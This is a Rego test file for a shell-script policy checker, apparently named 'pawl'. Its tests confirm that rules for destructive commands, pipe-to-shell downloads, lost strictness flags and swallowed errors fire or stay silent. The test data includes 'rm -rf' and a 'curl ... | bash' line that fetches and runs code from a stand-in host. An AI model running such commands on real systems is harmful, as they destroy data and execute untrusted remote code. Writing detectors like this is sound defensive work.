package pawl.tests.shell

import rego.v1

import data.pawl.tests.added
import data.pawl.tests.ids
import data.pawl.tests.script

test_shell_destructive_fires if "shell.destructive" in ids(script({"commands_added": ["rm -rf \"$old\""]}))

test_shell_destructive_silent if not "shell.destructive" in ids(script({"commands_added": ["grep rm books"]}))

test_shell_pipe_to_shell_fires if "shell.pipe-to-shell" in ids(added("curl -s https://x.example/i | bash"))

test_shell_pipe_to_shell_silent if not "shell.pipe-to-shell" in ids(added("curl -s https://x.example/i | sort"))

test_shell_strictness_lost_fires if "shell.strictness-lost" in ids(script({"commands_removed": ["set -euo pipefail"]}))

test_shell_strictness_lost_silent if not "shell.strictness-lost" in ids(script({"commands_removed": ["set -euo pipefail"], "commands_added": ["set -eu"]}))

test_shell_error_swallowed_fires if "shell.error-swallowed" in ids(added("mv a b || true"))

test_shell_error_swallowed_silent if not "shell.error-swallowed" in ids(added("mv a b || exit 1"))
